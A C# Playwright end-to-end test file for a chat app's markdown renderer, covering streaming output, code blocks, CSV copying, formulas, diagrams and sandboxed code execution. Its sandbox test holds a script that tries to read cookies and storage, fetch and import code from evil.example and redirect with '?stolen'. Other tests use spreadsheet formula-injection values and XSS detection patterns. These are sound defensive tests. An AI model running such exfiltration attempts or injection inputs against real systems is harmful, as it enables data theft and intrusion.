using System.Text.Json;
using Microsoft.Playwright;
using Zhiyan.Server.Markdown;
using Zhiyan.Server.Tests.Markdown;

namespace Zhiyan.EndToEnd.Tests.Markdown;

public sealed class MessageTests(Browser browser, MarkdownPage served) : IClassFixture<MarkdownPage>
{
    /// <summary>The elements of a message without what drawing adds, line ends between blocks apart.</summary>
    private const string Structure =
        """
        function structure(node) {
          if (node.nodeType === 3) return node.data;
          if (node.hasAttribute?.("data-ui")) return "";
          const names = ["class", "href", "src", "data-src", "start", "title", "alt", "rel", "target"];
          const attributes = names.filter(name => node.hasAttribute(name) && !(name === "title" && node.nodeName === "BUTTON")).map(name => ` ${name}=${name === "href" ? node.href : node.getAttribute(name)}`).join("");
          const block = /^(DIV|UL|OL|LI|BLOCKQUOTE|TABLE|THEAD|TBODY|TR|MAIN|ARTICLE)$/.test(node.nodeName) && !node.matches(".math");
          const parts = [...node.childNodes].map(structure).filter(part => part);
          let inner = parts.join("");
          if (block) inner = inner.replaceAll(/\s*\n\s*(?=<)|(?<=>)\s*\n\s*/g, "").trim();
          if (/^(P|H[1-6])$/.test(node.nodeName)) inner = inner.replaceAll(/ *\n */g, "\n").trim();
          return `<${node.nodeName.toLowerCase()}${attributes}>${inner}</>`;
        }
        """;

    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    public static TheoryData<string> Documents => [.. Directory.GetFiles(Path.Combine(AppContext.BaseDirectory, "documents")).Select(path => Path.GetFileName(path)!).Order()];

    [Theory]
    [MemberData(nameof(Documents))]
    public async Task What_streams_in_pieces_ends_as_what_comes_at_once_and_as_what_the_server_writes(string name)
    {
        string text = await File.ReadAllTextAsync(Path.Combine(AppContext.BaseDirectory, "documents", name), Cancel);
        await using var opened = await Open();
        string server = await Shown(opened.Page, "html => { document.querySelector('#message').innerHTML = html; }", MarkdownHtml.Render(text, new()));

        string whole = await Shown(opened.Page, "text => { document.querySelector('#message').replaceChildren(renderMarkdown(text, { remoteImages: false })); }", text);
        var streamed = new List<string>();
        for (int seed = 1; seed <= 6; seed++) streamed.Add(await Shown(opened.Page, Stream, new { text, pieces = Pieces(text, seed) }));

        Assert.Equal(Lines(server), Lines(whole));
        Assert.All(streamed, each => Assert.Equal(Lines(whole), Lines(each)));
        Assert.Empty(opened.Violations);
    }

    [Fact]
    public async Task No_payload_runs_loads_or_leaves_anything_while_it_streams()
    {
        await using var opened = await Open();
        await opened.Page.EvaluateAsync("() => { window.alert = window.confirm = window.prompt = () => { window.escaped = true; }; }");

        foreach (string payload in XssPayloads.All)
        {
            await opened.Page.EvaluateAsync(Stream, new { text = payload, pieces = Pieces(payload, 7) });
            await opened.Page.EvaluateAsync("() => decorate(document.querySelector('#message'))");
            var faults = await opened.Page.EvaluateAsync<string[]>(
                """
                () => [...document.querySelectorAll("#message *")].flatMap(element => [
                  ...(element.matches("script, iframe, object, embed, style, link, meta, base, form, input, template") ? [element.outerHTML] : []),
                  ...[...element.attributes].filter(({ name, value }) => /^on/i.test(name) || (/href|src|action/i.test(name) && /^\s*(javascript|vbscript|data:(?!image\/svg))/i.test(value)) ||
                    (/^(id|name)$/.test(name) && !element.closest(".katex, .diagram"))).map(({ name, value }) => `${name}=${value}`),
                ])
                """);
            Assert.True(faults.Length == 0, $"{string.Join("; ", faults)} of {payload[..Math.Min(payload.Length, 200)]}");
        }

        await opened.Page.WaitForTimeoutAsync(500);
        Assert.False(await opened.Page.EvaluateAsync<bool>("window.escaped === true"));
        Assert.Empty(opened.Dialogs);
        Assert.Empty(opened.ForeignRequests);
        Assert.Empty(opened.Violations);
    }

    [Fact]
    public async Task Blocks_that_are_finished_are_not_touched_again()
    {
        await using var opened = await Open();

        bool kept = await opened.Page.EvaluateAsync<bool>(
            """
            async () => {
              const frame = () => new Promise(resolve => requestAnimationFrame(() => setTimeout(resolve)));
              const message = document.querySelector("#message");
              const streamed = new StreamedMarkdown(message);
              streamed.append("First **block**.\n\nSecond");
              await frame(); await frame();
              const [first] = message.children;
              let touched = 0;
              new MutationObserver(seen => { touched += seen.length; }).observe(first, { subtree: true, childList: true, characterData: true, attributes: true });
              for (let i = 0; i < 50; i++) { streamed.append(` word ${i}\n\n`); await frame(); }
              await streamed.finish();
              return touched === 0 && message.firstElementChild === first;
            }
            """);

        Assert.True(kept);
    }

    [Fact]
    public async Task Half_open_constructs_never_show_their_signs()
    {
        await using var opened = await Open();
        string text = "This is **bold text** and `code` and [a link](https://a.example/path) and $x^2 + y$ too.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```js\nlet x;\n```\n\n## End\n";

        var seen = await opened.Page.EvaluateAsync<string[]>(
            """
            async text => {
              const frame = () => new Promise(resolve => requestAnimationFrame(() => setTimeout(resolve)));
              const message = document.querySelector("#message"), streamed = new StreamedMarkdown(message), seen = [];
              for (const character of text) {
                streamed.append(character);
                await frame(); await frame();
                const shown = message.cloneNode(true);
                shown.querySelectorAll(".math, [data-ui]").forEach(each => each.remove());
                seen.push(shown.textContent);
              }
              await streamed.finish();
              return seen;
            }
            """, text);

        Assert.DoesNotContain(seen, shown => shown.Contains('*') || shown.Contains('`') || shown.Contains('[') || shown.Contains('$') || shown.Contains('|') || shown.Contains('#') || shown.Contains("https"));
    }

    [Fact]
    public async Task Code_is_coloured_copied_wrapped_and_decorated_once()
    {
        await using var opened = await Open(clipboard: true);
        await Show(opened.Page, "```js\nconst x = \"<b>\";\n```\n");
        await opened.Page.Locator(".hljs-keyword").WaitForAsync();

        await opened.Page.EvaluateAsync("() => { decorate(document.querySelector('#message')); decorate(document.querySelector('#message')); }");
        await opened.Page.GetByRole(AriaRole.Button, new() { Name = "Wrap long lines" }).ClickAsync();
        await opened.Page.GetByRole(AriaRole.Button, new() { Name = "Copy", Exact = true }).ClickAsync();
        await opened.Page.GetByRole(AriaRole.Button, new() { Name = "Copied" }).WaitForAsync();

        Assert.Equal(1, await opened.Page.Locator(".block-bar").CountAsync());
        Assert.Equal("const x = \"<b>\";\n", await opened.Page.EvaluateAsync<string>("navigator.clipboard.readText()"));
        Assert.Equal(1, await opened.Page.Locator(".code-block.wrapped").CountAsync());
        Assert.Equal("const x = \"<b>\";", (await opened.Page.Locator("#message").InnerTextAsync()).Trim());
        Assert.Empty(opened.Errors);
    }

    [Fact]
    public async Task A_table_is_copied_as_csv_that_no_spreadsheet_runs()
    {
        await using var opened = await Open(clipboard: true);
        await Show(opened.Page, "| a \"q\" | b, c |\n|---|---|\n| =1+1 | -2.5 |\n| @x | $y$ |\n");

        await opened.Page.GetByRole(AriaRole.Button, new() { Name = "Copy as CSV" }).ClickAsync();
        await opened.Page.GetByRole(AriaRole.Button, new() { Name = "Copied" }).WaitForAsync();

        Assert.Equal("\"a \"\"q\"\"\",\"b, c\"\r\n'=1+1,-2.5\r\n'@x,y\r\n", await opened.Page.EvaluateAsync<string>("navigator.clipboard.readText()"));
    }

    [Fact]
    public async Task Formulas_and_diagrams_are_drawn_and_wrong_ones_stay_as_they_were_written()
    {
        await using var opened = await Open();
        await Show(opened.Page, "$x^2$ and $\\frac{1}$ and $\\href{https://evil.example}{x}$\n\n```mermaid\ngraph TD; A[开始]-->B\n```\n\n```mermaid\ngraph nonsense ((\n```\n\n```mermaid\nflowchart TD\nA@{ img: \"https://evil.example/x.png\" }\n```\n");

        await opened.Page.Locator("img.diagram").WaitForAsync();
        await opened.Page.Locator(".math-wrong").WaitForAsync();
        await opened.Page.WaitForTimeoutAsync(500);

        Assert.Equal(1, await opened.Page.Locator("img.diagram").CountAsync());
        Assert.StartsWith("data:image/svg+xml,", await opened.Page.Locator("img.diagram").GetAttributeAsync("src"));
        Assert.Equal("\\frac{1}", await opened.Page.Locator(".math-wrong").First.TextContentAsync());
        Assert.Equal(0, await opened.Page.Locator(".katex a").CountAsync());
        Assert.Empty(opened.ForeignRequests);
        Assert.Empty(opened.Violations);
    }

    [Fact]
    public async Task An_image_of_another_host_is_asked_for_only_when_pressed()
    {
        await using var opened = await Open();
        await Show(opened.Page, "![cat](http://images.example/cat.png)");
        int before = opened.ForeignRequests.Count;

        var asked = await opened.Page.RunAndWaitForRequestAsync(
            () => opened.Page.GetByRole(AriaRole.Button, new() { Name = "cat images.example: Load this image" }).ClickAsync(), request => request.Url.Contains("images.example/cat.png", StringComparison.Ordinal) && !request.Url.Contains("src=", StringComparison.Ordinal));

        Assert.Equal(0, before);
        Assert.Equal("http://images.example/cat.png", asked.Url);
    }

    [Fact]
    public async Task Code_that_runs_reaches_neither_page_nor_storage_nor_network()
    {
        await using var opened = await Open();
        string script =
            """
            const out = {};
            const tried = (name, act) => { try { out[name] = String(act()); } catch (failure) { out[name] = "refused"; } };
            tried("parent", () => parent.document.title);
            tried("top", () => top.location.href);
            tried("storage", () => localStorage.length);
            tried("cookie", () => document.cookie);
            tried("peer", () => new RTCPeerConnection());
            tried("popup", () => open("https://evil.example/") ?? (() => { throw 0; })());
            tried("leave", () => { top.location = "https://evil.example/"; return "left"; });
            new Image().src = "https://evil.example/image.png";
            document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: "https://evil.example/x.css" }));
            Promise.all([
              fetch("https://evil.example/").then(() => "reached", () => "refused"),
              fetch("/").then(() => "reached", () => "refused"),
              import("https://evil.example/x.js").then(() => "reached", () => "refused"),
            ]).then(([foreign, own, module]) => {
              Object.assign(out, { foreign, own, module, origin: self.origin });
              document.body.textContent = JSON.stringify(out);
              document.body.id = "ready";
              setTimeout(() => { location = "https://evil.example/?stolen"; }, 1000);
            });
            """;

        await Show(opened.Page, $"```html\n<!doctype html><body><script>\n{script}\n</script></body>\n```\n");
        await opened.Page.GetByRole(AriaRole.Button, new() { Name = "Run" }).ClickAsync();
        string? result = await opened.Page.FrameLocator("iframe").Locator("#ready").TextContentAsync();
        await opened.Page.WaitForTimeoutAsync(2000);

        var told = JsonSerializer.Deserialize<Dictionary<string, string>>(result!)!;
        Assert.Equal("null", told["origin"]);
        foreach (string way in new[] { "parent", "top", "storage", "cookie", "peer", "popup", "foreign", "own", "module", "leave" }) Assert.Equal((way, "refused"), (way, told[way]));
        Assert.Empty(opened.ForeignRequests);
        Assert.Equal("Messages", await opened.Page.TitleAsync());
    }

    [Theory]
    [InlineData("light")]
    [InlineData("dark")]
    public async Task Messages_are_accessible_in_both_themes(string theme)
    {
        await using var opened = await Open();
        string text = await File.ReadAllTextAsync(Path.Combine(AppContext.BaseDirectory, "documents", "answer.md"), Cancel);
        await opened.Page.EvaluateAsync("theme => { document.documentElement.dataset.theme = theme; }", theme);
        await Show(opened.Page, text + "\n```python\n# why\n@cached\nclass A(int):\n    x: str = f\"{1}\" + 'a'  # note\n    def go(self): return None\n```\n\n```css\na > .b #c { color: #fff !important; }\n```\n");
        await opened.Page.Locator(".hljs-string").First.WaitForAsync();

        var found = await Deque.AxeCore.Playwright.PageExtensions.RunAxe(opened.Page);

        Assert.Empty(found.Violations.Select(violation => $"{violation.Id}: {string.Join(", ", violation.Nodes.Select(node => node.Html))}"));
    }

    private const string Stream =
        """
        async ({ text, pieces }) => {
          const message = document.querySelector("#message");
          message.replaceChildren();
          const streamed = new StreamedMarkdown(message);
          let at = 0, count = 0;
          for (const length of pieces) {
            streamed.append(text.slice(at, at += length));
            if (++count % 3 === 0) await new Promise(resolve => requestAnimationFrame(resolve));
          }
          await streamed.finish();
        }
        """;

    private async Task<BrowserPage> Open(bool clipboard = false)
    {
        var opened = await browser.Open(new() { Locale = "en-US", Permissions = clipboard ? ["clipboard-read", "clipboard-write"] : [] });
        await opened.Page.GotoAsync(served.Address);
        await opened.Page.WaitForFunctionAsync("() => window.StreamedMarkdown");
        return opened;
    }

    private static async Task Show(IPage page, string markdown) => await page.EvaluateAsync(
        "html => { const message = document.querySelector('#message'); message.innerHTML = html; decorate(message); }", MarkdownHtml.Render(markdown, new()));

    private static async Task<string> Shown(IPage page, string act, object argument)
    {
        await page.EvaluateAsync(act, argument);
        return await page.EvaluateAsync<string>($"() => {{ {Structure}\n const shown = document.querySelector('#message').cloneNode(true); shown.querySelectorAll('.katex annotation').forEach(each => each.closest('.math').textContent = each.textContent); shown.querySelectorAll('pre > code').forEach(each => each.textContent = each.textContent); shown.querySelectorAll('.code-block').forEach(each => each.className = 'code-block'); return structure(shown); }}");
    }

    // An element a line, so that a difference is seen where it is.
    private static string[] Lines(string structure) => structure.Replace("<", "\n<").Split('\n');

    private static int[] Pieces(string text, int seed)
    {
        var random = new Random(seed);
        var pieces = new List<int>();
        for (int at = 0; at < text.Length; at += pieces[^1]) pieces.Add(Math.Min(text.Length - at, 1 + random.Next(text.Length > 2000 ? text.Length / 40 : 12)));
        return [.. pieces];
    }
}
